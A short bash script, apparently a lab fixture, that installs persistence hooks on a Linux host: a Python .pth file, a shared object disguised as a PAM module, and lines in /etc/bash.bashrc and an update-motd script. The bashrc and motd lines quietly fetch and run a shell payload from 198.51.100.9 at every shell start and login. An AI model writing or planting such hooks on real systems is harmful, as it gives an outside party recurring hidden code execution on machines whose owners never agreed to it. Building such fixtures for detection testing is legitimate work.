#!/bin/bash
# What runs with something else: Python's start, a login, a shell, the message of the day.
mkdir -p /usr/lib/python3/dist-packages /usr/lib/x86_64-linux-gnu/security /etc/update-motd.d
printf 'import os; os.environ.setdefault("LANG", "C")\n' >/usr/lib/python3/dist-packages/zz-compat.pth
cp /srv/lab/bin/preload.so /usr/lib/x86_64-linux-gnu/security/pam_locale.so
printf '(wget -qO- http://198.51.100.9/a | sh) >/dev/null 2>&1 &\n' >>/etc/bash.bashrc
printf '#!/bin/sh\nwget -qO- http://198.51.100.9/a | sh\n' >/etc/update-motd.d/98-news
chmod 755 /etc/update-motd.d/98-news
echo ready
exec sleep 3600
